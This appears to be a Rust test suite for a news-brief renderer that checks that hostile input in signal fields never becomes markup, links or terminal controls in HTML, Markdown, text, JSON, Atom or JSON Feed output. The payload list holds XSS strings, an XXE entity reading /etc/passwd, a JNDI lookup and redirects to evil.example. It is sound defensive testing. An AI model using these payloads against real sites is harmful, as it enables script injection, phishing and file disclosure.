//! Hostile output: known XSS payloads and Markdown, feed and terminal injection strings in every
//! text field of a signal (and in the masthead and feed options a deployer configures) never
//! become markup, links or control sequences in any format, and still reach the reader as text.
//!
//! Outputs are judged by parsing them (see `markup.rs`), never by searching for strings.

use bellwether::brief::{
    AtomRenderer, Brief, Composed, Composer, HtmlRenderer, JsonFeedRenderer, JsonRenderer,
    LinkPolicy, MarkdownRenderer, Masthead, Novelty, Policy, Render, RenderContext, SignalIndex,
    SignalPage, TextRenderer,
};
use bellwether::signal::{Signal, Strength};
use chrono::{DateTime, Utc};
use serde_json::{Value, json};

use crate::markup;

/// Script, attribute, URL, XML, Markdown, template and Unicode-spoofing payloads, each short
/// enough for the model's tightest limit (a 200-character label).
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<!-- x --> --!> <!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#106;avascript:alert(1)",
    "]]><script>alert(1)</script><![CDATA[",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>",
    "<!DOCTYPE feed [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;",
    "</content><entry><title>forged</title></entry>",
    "\"},{\"url\":\"https://evil.example/\",\"content_html\":\"<script>alert(1)</script>",
    "[click me](javascript:alert(1))",
    "[phish](https://evil.example/login \"bank\")",
    "![pixel](https://evil.example/track.png)",
    "<https://evil.example/autolink>",
    "<evil@evil.example>",
    "https://evil.example/bare",
    "[ref][1] [1]: https://evil.example/ref",
    "*emphasis* **strong** _under_ ~~strike~~ `code` ```fence```",
    "# not a heading",
    "> not a quote",
    "- not a list item",
    "1. not a list item",
    "| not | a | table |",
    "\\*escaped\\* \\\\ backslashes",
    "[^1] footnote [^1]: https://evil.example/",
    "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %>",
    "\u{202E}gnp.exe \u{202D}override\u{202C} pop",
    "\u{2066}isolate\u{2069} \u{2067}rtl\u{2069} \u{2068}first\u{2069}",
    "zero\u{200B}width \u{200D}joiner\u{200C} mark\u{200E}\u{200F}",
    "https://evil\u{200D}.example/zwj and https://evi\u{200B}l.example/zwsp",
    "e\u{301}\u{301}\u{301}\u{301} combining \u{FEFF}bom \u{FFFD} replacement",
];

/// Payloads that also make sense inside a multi-line field (analysis, reasoning).
const MULTILINE_PAYLOADS: &[&str] = &[
    "Line one\n# heading\n<script>alert(1)</script>\n\n[x](https://evil.example/)",
    "Paragraph\n\n```html\n<script>alert(1)</script>\n```\n\n<div onclick=\"x\">",
    "Tab\there\r\nCR LF\rlone CR\n> quote\n    indented code",
];

const NOW: &str = "2026-05-27T07:00:00Z";

/// Hosts the output may link to: the sources' own site and the brief's.
fn hosts() -> Vec<String> {
    vec!["news.example".to_owned(), "brief.example".to_owned()]
}

fn now() -> DateTime<Utc> {
    NOW.parse().unwrap()
}

/// A signal with `payload` in every text field the model lets hold it.
fn hostile_signal(index: usize, payload: &str, multiline: &str) -> Signal {
    let quote = format!("The minister said {payload} in public today");
    let value: Value = json!({
        "id": format!("javascript:alert-{index}"),
        "thesis": format!("Thesis {payload}"),
        "analysis": format!("Analysis {payload}\n\n{multiline}"),
        "strength": 8,
        "extraction_count": 2,
        "first_seen": "2026-05-25T09:00:00Z",
        "last_reinforced": "2026-05-26T09:00:00Z",
        "tags": {
            "nature": ["structural"],
            "domains": ["regulatory"],
            "topics": [format!("topic {payload}")],
        },
        "regions": ["US"],
        "actors": [{
            "name": format!("Actor {payload}"),
            "kind": "company",
            "aliases": [format!("alias {payload}")],
        }],
        "sources": [
            {
                "id": format!("a-{index}"),
                "title": format!("Title {payload}"),
                "outlet": format!("Outlet {payload}"),
                "url": format!("https://news.example/{index}/a)[x](javascript:alert(1))\"'<>"),
                "published": "2026-05-25T09:00:00Z",
                "reliability": "B",
                "quotes": [{
                    "text": quote,
                    "anchors": [payload],
                    "span": {"start": 10, "end": 10 + quote.len()},
                    "match_quality": {"method": "exact", "score": 1.0},
                    "deep_link": format!(
                        "https://news.example/{index}#:~:text={}",
                        payload.replace(' ', "%20")
                    ),
                }],
                "reasoning": [format!("Reasoning {payload}\n{multiline}")],
            },
            {
                "id": format!("b-{index}"),
                "title": format!("Second {payload}"),
                "outlet": "Plain Outlet",
                "published": "2026-05-26T09:00:00Z",
                "quotes": [{"text": format!("{payload} was repeated"), "anchors": [payload]}],
            }
        ],
    });
    match serde_json::from_value(value) {
        Ok(signal) => signal,
        Err(error) => panic!("payload {payload:?} does not fit a signal: {error}"),
    }
}

fn hostile_signals() -> Vec<Signal> {
    PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, payload)| hostile_signal(i, payload, MULTILINE_PAYLOADS[i % 3]))
        .collect()
}

fn hostile_context(payload: &str, relative_pages: bool) -> RenderContext {
    let links = if relative_pages {
        LinkPolicy::default()
            .signal_pages("/signals/{id}.html")
            .unwrap()
            .index_page("/signals/")
            .unwrap()
    } else {
        LinkPolicy::default()
            .signal_pages("https://brief.example/signals/{id}.html")
            .unwrap()
            .index_page("https://brief.example/signals/")
            .unwrap()
    };
    RenderContext::new(now())
        .links(links)
        .masthead(Masthead::new(format!("Masthead {payload}")).tagline(format!("Tag {payload}")))
}

fn brief_of(signals: &[Signal]) -> Brief {
    let policy = Policy::builder()
        .min_strength(Strength::new(1).unwrap())
        .novelty(Novelty::Any)
        .max_items(signals.len())
        .build()
        .unwrap();
    match Composer::new(policy).compose(signals, None, now()).unwrap() {
        Composed::Brief(brief) => brief,
        other => panic!("expected a brief, got {other:?}"),
    }
}

fn assert_clean(what: &str, violations: Vec<String>, output: &str) {
    assert!(
        violations.is_empty(),
        "{what} breaks the markup rules:\n{violations:#?}\n--- output ---\n{output}"
    );
}

/// What a reader sees of `payload`: the renderers drop bidirectional controls and turn CR into
/// LF; white space may be re-flowed.
fn visible(payload: &str) -> String {
    let kept: String = payload
        .chars()
        .filter(|c| !matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
        .collect();
    collapse(&kept)
}

fn collapse(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn render<D: ?Sized, R: Render<D>>(renderer: &R, doc: &D, ctx: &RenderContext) -> String {
    renderer
        .render_to_string(doc, ctx)
        .unwrap_or_else(|e| panic!("rendering failed: {e}"))
}

/// Renders every document in every format and checks each output.
fn check_all_formats(
    brief: &Brief,
    index: Option<&SignalIndex>,
    pages: &[SignalPage],
    ctx: &RenderContext,
    payload: Option<&str>,
) {
    let hosts = hosts();
    let html_renderers = [
        ("html page", HtmlRenderer::page(), false),
        ("html fragment", HtmlRenderer::fragment(), true),
        ("html email", HtmlRenderer::email(), false),
    ];
    let shows = |what: &str, text: &str| {
        if let Some(payload) = payload {
            let wanted = format!("Thesis {}", visible(payload));
            assert!(
                collapse(text).contains(&wanted),
                "{what}: the thesis {wanted:?} does not reach the reader as text:\n{text}"
            );
        }
    };

    for (name, renderer, fragment) in &html_renderers {
        let out = render(renderer, brief, ctx);
        assert_clean(
            &format!("{name} brief"),
            markup::html_violations(&out, *fragment, &hosts),
            &out,
        );
        shows(name, &markup::html_text(&out));
        if let Some(index) = index {
            let out = render(renderer, index, ctx);
            assert_clean(
                &format!("{name} index"),
                markup::html_violations(&out, *fragment, &hosts),
                &out,
            );
        }
        for page in pages {
            let out = render(renderer, page, ctx);
            assert_clean(
                &format!("{name} page"),
                markup::html_violations(&out, *fragment, &hosts),
                &out,
            );
        }
    }

    let markdown = MarkdownRenderer::new();
    let out = render(&markdown, brief, ctx);
    assert_clean(
        "markdown brief",
        markup::markdown_violations(&out, &hosts),
        &out,
    );
    shows("markdown", &markup::markdown_text(&out));
    if let Some(index) = index {
        let out = render(&markdown, index, ctx);
        assert_clean(
            "markdown index",
            markup::markdown_violations(&out, &hosts),
            &out,
        );
    }
    for page in pages {
        let out = render(&markdown, page, ctx);
        assert_clean(
            "markdown page",
            markup::markdown_violations(&out, &hosts),
            &out,
        );
    }

    let text = TextRenderer::new().width(400);
    let out = render(&text, brief, ctx);
    assert_clean("text brief", markup::text_violations(&out), &out);
    shows("text", &out);
    if let Some(index) = index {
        assert_clean(
            "text index",
            markup::text_violations(&render(&text, index, ctx)),
            "",
        );
    }
    for page in pages {
        assert_clean(
            "text page",
            markup::text_violations(&render(&text, page, ctx)),
            "",
        );
    }

    let json = JsonRenderer::new();
    let out = render(&json, brief, ctx);
    assert_clean("json brief", markup::json_violations(&out), &out);
    if let Some(payload) = payload {
        let parsed: Value = serde_json::from_str(&out).unwrap();
        let mut strings = Vec::new();
        collect_strings(&parsed, &mut strings);
        // JSON is data for programs: the thesis arrives exactly as written, controls and all.
        let wanted = format!("Thesis {payload}");
        assert!(
            strings.iter().any(|s| s == &wanted),
            "json: the thesis {wanted:?} is not among the strings"
        );
    }
    if let Some(index) = index {
        assert_clean(
            "json index",
            markup::json_violations(&render(&json, index, ctx)),
            "",
        );
    }

    let atom = AtomRenderer::new()
        .self_url("https://brief.example/atom.xml")
        .author_name(&format!("Author {}", payload.unwrap_or("plain")));
    let out = render(&atom, brief, ctx);
    assert_clean("atom", markup::atom_violations(&out, &hosts), &out);
    let out = render(&atom, std::slice::from_ref(brief), ctx);
    assert_clean("atom (many)", markup::atom_violations(&out, &hosts), &out);

    let feed = JsonFeedRenderer::new()
        .self_url("https://brief.example/feed.json")
        .author_name(&format!("Author {}", payload.unwrap_or("plain")));
    let out = render(&feed, brief, ctx);
    assert_clean(
        "json feed",
        markup::json_feed_violations(&out, &hosts),
        &out,
    );
}

fn collect_strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
        _ => {}
    }
}

#[test]
fn markup_rules_accept_the_seed_brief_in_every_format() {
    // The rules themselves must not reject honest output, or every other test here is vacuous.
    let seed: Signal = serde_json::from_str(include_str!("../data/seed/signal.json")).unwrap();
    let brief = brief_of(std::slice::from_ref(&seed));
    let composer = Composer::new(Policy::default());
    let index = composer.index(std::slice::from_ref(&seed), None).unwrap();
    let page = composer.page(&seed, None).unwrap();
    let ctx = hostile_context("plain", false);
    let hosts = [
        "pacificpolicy.example",
        "eveningledger.example",
        "strategyquarterly.example",
        "brief.example",
    ]
    .map(str::to_owned);
    for (renderer, fragment) in [
        (HtmlRenderer::page(), false),
        (HtmlRenderer::email(), false),
    ]
    .into_iter()
    .chain([(HtmlRenderer::fragment(), true)])
    {
        let out = render(&renderer, &brief, &ctx);
        assert_clean(
            "seed html",
            markup::html_violations(&out, fragment, &hosts),
            &out,
        );
        let out = render(&renderer, &page, &ctx);
        assert_clean(
            "seed html page",
            markup::html_violations(&out, fragment, &hosts),
            &out,
        );
    }
    let out = render(&MarkdownRenderer::new(), &index, &ctx);
    assert_clean(
        "seed markdown",
        markup::markdown_violations(&out, &hosts),
        &out,
    );
    let out = render(&AtomRenderer::new(), &brief, &ctx);
    assert_clean("seed atom", markup::atom_violations(&out, &hosts), &out);
    let out = render(&JsonFeedRenderer::new(), &brief, &ctx);
    assert_clean(
        "seed json feed",
        markup::json_feed_violations(&out, &hosts),
        &out,
    );
}

#[test]
fn markup_rules_catch_injected_markup() {
    // Each rule fires on the attack it is there for, so a passing hostile test means something.
    let hosts = hosts();
    let html = |s: &str| markup::html_violations(s, true, &hosts);
    assert!(!html("<p>x<script>alert(1)</script></p>").is_empty());
    assert!(!html("<p onclick=\"x\">x</p>").is_empty());
    assert!(!html("<a href=\"javascript:alert(1)\">x</a>").is_empty());
    assert!(!html("<a href=\"https://evil.example/\">x</a>").is_empty());
    assert!(
        !html("<p>a</b></p>").is_empty(),
        "a parse error is a violation"
    );
    assert!(
        html("<p><a href=\"https://news.example/a\">x</a> <a href=\"/signals/x\">y</a></p>")
            .is_empty()
    );
    let md = |s: &str| markup::markdown_violations(s, &hosts);
    assert!(!md("[x](https://evil.example/)").is_empty());
    assert!(!md("<b>raw</b>").is_empty());
    assert!(!md("![x](https://news.example/p.png)").is_empty());
    assert!(md("[x](https://news.example/a) \\<b\\>").is_empty());
    let atom = |s: &str| markup::atom_violations(s, &hosts);
    let feed = |body: &str| {
        format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title>{body}</feed>")
    };
    assert!(atom(&feed("")).is_empty());
    assert!(!atom(&feed("<script>x</script>")).is_empty());
    assert!(!atom(&feed("<link href=\"javascript:x\"/>")).is_empty());
    assert!(
        !atom(&feed(
            "<content type=\"html\">&lt;script&gt;x&lt;/script&gt;</content>"
        ))
        .is_empty()
    );
    assert!(!atom("<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>a</feed>").is_empty());
    assert!(!atom("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e \"b\">]><x/>").is_empty());
    assert!(!markup::text_violations("a\u{1b}[31mred").is_empty());
    assert!(!markup::text_violations("a\u{202E}b").is_empty());
    assert!(markup::text_violations("a\tb\nc").is_empty());
}

#[test]
fn hostile_fields_never_become_markup_in_any_format() {
    let signals = hostile_signals();
    let brief = brief_of(&signals);
    let composer = Composer::new(Policy::default());
    let index = composer.index(&signals, None).unwrap();
    let pages: Vec<SignalPage> = signals
        .iter()
        .map(|s| composer.page(s, None).unwrap())
        .collect();
    for relative in [false, true] {
        let ctx = hostile_context("<script>x</script>", relative);
        check_all_formats(&brief, Some(&index), &pages, &ctx, None);
    }
}

#[test]
fn each_hostile_payload_reaches_the_reader_as_text() {
    // One signal per payload, so a thesis shown in a list of many is not mistaken for another.
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let signal = hostile_signal(i, payload, MULTILINE_PAYLOADS[i % 3]);
        // The brief alone: the test above covers indexes and pages with every payload at once.
        let brief = brief_of(std::slice::from_ref(&signal));
        check_all_formats(
            &brief,
            None,
            &[],
            &hostile_context(payload, false),
            Some(payload),
        );
    }
}

#[test]
fn links_are_built_only_from_http_and_https_urls() {
    let seed = include_str!("../data/seed/signal.json");
    let bad_urls = [
        "javascript:alert(1)",
        " javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/x",
        "/relative/path",
        "https://user:pass@evil.example/",
        "https://",
    ];
    for bad in bad_urls {
        let with_url = seed.replace(
            "https://pacificpolicy.example/2026/05/software-layer-china-us-tech-diplomacy",
            bad,
        );
        assert!(
            serde_json::from_str::<Signal>(&with_url).is_err(),
            "a source url {bad:?} is accepted"
        );
        let mut value: Value = serde_json::from_str(seed).unwrap();
        value["sources"][0]["quotes"][0]["deep_link"] = json!(bad);
        assert!(
            serde_json::from_value::<Signal>(value).is_err(),
            "a deep link {bad:?} is accepted"
        );
    }
    for bad in [
        "javascript:{id}",
        "data:text/html,{id}",
        "/a\"onclick=x/{id}",
        "/a b/{id}",
    ] {
        assert!(
            LinkPolicy::default().signal_pages(bad).is_err(),
            "page template {bad:?}"
        );
    }
    assert!(
        AtomRenderer::new()
            .self_url("javascript:alert(1)")
            .render_to_string(
                &brief_of(&hostile_signals()[..1]),
                &RenderContext::new(now())
            )
            .is_err()
    );
}

#[test]
fn page_links_reject_protocol_relative_urls() {
    for bad in [
        "//evil.example/{id}",
        "/\\evil.example/{id}",
        "///evil.example/{id}",
    ] {
        assert!(
            LinkPolicy::default().signal_pages(bad).is_err(),
            "page template {bad:?}"
        );
        let index = bad.replace("{id}", "");
        assert!(
            LinkPolicy::default().index_page(&index).is_err(),
            "index page {index:?}"
        );
    }
}
